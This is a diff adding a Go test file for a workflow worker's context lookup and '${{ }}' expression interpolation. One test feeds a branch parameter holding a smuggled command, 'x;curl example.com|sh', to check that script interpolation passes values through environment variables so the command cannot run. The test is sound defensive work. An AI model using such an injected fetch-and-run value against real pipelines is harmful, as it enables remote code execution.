@@ -0,0 +1,70 @@
+package worker
+
+import "testing"
+
+var testRunContext = runContext{
+	params: map[string]string{"env": "prod"},
+	jobs: map[string]jobContext{
+		"extract": jobContext{
+			status:  "SUCCESSFUL",
+			outputs: map[string]string{"rows": "42"},
+		},
+		"load": jobContext{
+			status:   "FAILED",
+			reason:   "Failed",
+			exitCode: "2",
+		},
+	},
+}
+
+func TestLookup(t *testing.T) {
+	paths := map[string]string{
+		"params.env":                "prod",
+		"params.unknown":            "",
+		"jobs.extract.status":       "SUCCESSFUL",
+		"jobs.extract.outputs.rows": "42",
+		"jobs.extract.outputs.a.b":  "",
+		"jobs.extract.reason":       "",
+		"jobs.load.reason":          "Failed",
+		"jobs.load.exitCode":        "2",
+		"jobs.unknown.status":       "",
+		"jobs.extract":              "",
+		"unknown":                   "",
+	}
+	for path, expected := range paths {
+		if val := testRunContext.lookup(path); val != expected {
+			t.Errorf("lookup(%v) = %v, expected %v", path, val, expected)
+		}
+	}
+}
+
+func TestInterpolate(t *testing.T) {
+	str := "load ${{ jobs.extract.outputs.rows }} rows in ${{params.env}}${{ jobs.unknown.outputs.rows }} ${{ matrix.region }}"
+	if !hasContextRefs(str) {
+		t.Errorf("hasContextRefs(%v) = false, expected true", str)
+	}
+
+	interpolated := testRunContext.interpolate(str)
+	expected := "load 42 rows in prod ${{ matrix.region }}"
+	if interpolated != expected {
+		t.Errorf("interpolated = %v, expected %v", interpolated, expected)
+	}
+
+	if hasContextRefs("exit 0") {
+		t.Errorf("hasContextRefs(exit 0) = true, expected false")
+	}
+}
+
+func TestInterpolateScript(t *testing.T) {
+	ctx := runContext{params: map[string]string{"branch": "x;curl example.com|sh", "env": "prod"}}
+	env := map[string]string{"CHAINR_PARAMS_ENV": "dev"}
+
+	script := ctx.interpolateScript(`git checkout ${{ params.branch }} && echo "${{params.env}}"`, env)
+	expected := `git checkout ${CHAINR_PARAMS_BRANCH} && echo "${CHAINR_PARAMS_ENV_}"`
+	if script != expected {
+		t.Errorf("script = %v, expected %v", script, expected)
+	}
+	if env["CHAINR_PARAMS_BRANCH"] != "x;curl example.com|sh" || env["CHAINR_PARAMS_ENV"] != "dev" || env["CHAINR_PARAMS_ENV_"] != "prod" {
+		t.Errorf("env = %v, expected the values of the references", env)
+	}
+}